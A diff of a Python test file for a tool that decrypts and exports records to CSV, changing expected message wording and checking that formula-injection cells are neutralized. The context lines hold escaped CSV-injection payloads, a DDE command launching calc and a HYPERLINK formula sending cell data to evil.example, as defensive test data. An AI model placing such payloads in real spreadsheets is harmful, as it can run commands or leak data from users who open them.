@@ -108,7 +108,7 @@ def test_every_cell_and_header_is_neutralized(tmp_path, key_file, private_key, e
             assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (cell, rows[0])
     assert "'=cmd|' /C calc'!A0" in [cell for row in rows for cell in row]
     assert "'+SUM(1,2)" in rows[1] and '\'=HYPERLINK("http://evil.example/?"&A1)' in rows[0]
-    assert "Opened 3 record(s)" in stdout
+    assert "Opened 3 records:" in stdout
 
 
 def test_safe_cell_neutralizes_the_spreadsheet_formula_starts():
@@ -122,9 +122,9 @@ def test_duplicated_and_replayed_records_are_counted_once_and_reported(tmp_path,
     first = export["records"][0]
     export["records"] += [dict(first), dict(first), {**first, "id": "f" * 32}]
     out, stdout, stderr = reveal(tmp_path, key_file, export)
-    assert "Opened 3 record(s)" in stdout
-    assert "3 duplicated or replayed record(s)" in stderr
-    assert "CommandError: 3 record(s) could not be verified" in stderr
+    assert "Opened 3 records:" in stdout
+    assert "3 duplicated or replayed records" in stderr
+    assert "CommandError: 3 records could not be verified" in stderr
     (csv_file,) = out.glob("*.csv")
     assert len(list(csv.DictReader(io.StringIO(csv_file.read_text(encoding="utf-8"))))) == 3
 
